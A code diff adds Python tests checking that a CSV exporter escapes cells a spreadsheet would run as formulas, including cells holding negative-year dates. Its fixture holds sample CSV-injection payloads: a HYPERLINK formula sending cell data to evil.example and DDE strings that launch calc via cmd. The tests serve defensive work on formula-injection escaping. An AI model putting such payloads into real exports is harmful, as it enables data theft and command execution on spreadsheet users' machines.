@@ -124,6 +124,56 @@ def test_csv_keeps_hostile_text_exactly() -> None:
     assert row["summary"] == dataset.events[0].summary
 
 
+def _formula_dataset() -> Dataset:
+    """One event with a cell starting with each character a spreadsheet runs as a formula,
+    dated in 44 BCE, so its EDTF date and first and last days start with `-` too."""
+    source = make_source("daily-report", ARTICLE_ONE)
+    event = make_event(
+        "ides",
+        "-0044-03-15",
+        (quote_of(source, "Leaders met in the capital"),),
+        title='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        summary="+cmd|' /C calc'!A0",
+        actors=("@SUM(1+1)*cmd|' /C calc'!A0",),
+        places=("\t=1+1",),
+        date_basis="\r=1+1",
+    )
+    return Dataset("/data/formulas", (Theme("alpha", "Alpha", "A."),), (source,), (event,))
+
+
+def test_csv_prefixes_every_cell_a_spreadsheet_would_run_as_a_formula() -> None:
+    dataset = _formula_dataset()
+    event = dataset.events[0]
+    (row,) = csv.DictReader(io.StringIO(export(dataset, dataset.events, "csv"), newline=""))
+    hostile = {
+        "title": event.title,
+        "summary": event.summary,
+        "actors": event.actors[0],
+        "places": event.places[0],
+        "date_basis": event.date_basis,
+        "date": "-0044-03-15",  # a negative year starts with "-": escaped by the same rule
+        "earliest": "-0044-03-15",
+        "latest": "-0044-03-15",
+    }
+    assert {column: row[column] for column in hostile} == {c: f"'{v}" for c, v in hostile.items()}
+    ordinary = {"id": "ides", "display_date": describe(event.date), "themes": "alpha"}
+    assert {column: row[column] for column in ordinary} == ordinary
+    assert row["quotes"] == "daily-report: Leaders met in the capital"
+
+    (raw,) = csv.DictReader(
+        io.StringIO(export(dataset, dataset.events, "csv", raw=True), newline="")
+    )
+    assert {column: raw[column] for column in hostile} == hostile
+
+
+def test_csv_leaves_ordinary_cells_alone() -> None:
+    # Dates such as 2023-01-13, 2023-05 and 2022~, and a value that already starts with '.
+    dataset = small_dataset()
+    safe = export(dataset, dataset.events, "csv")
+    assert safe == export(dataset, dataset.events, "csv", raw=True)
+    assert ",'on Friday' in the report" in safe
+
+
 # -- Markdown ------------------------------------------------------------------------
 
 
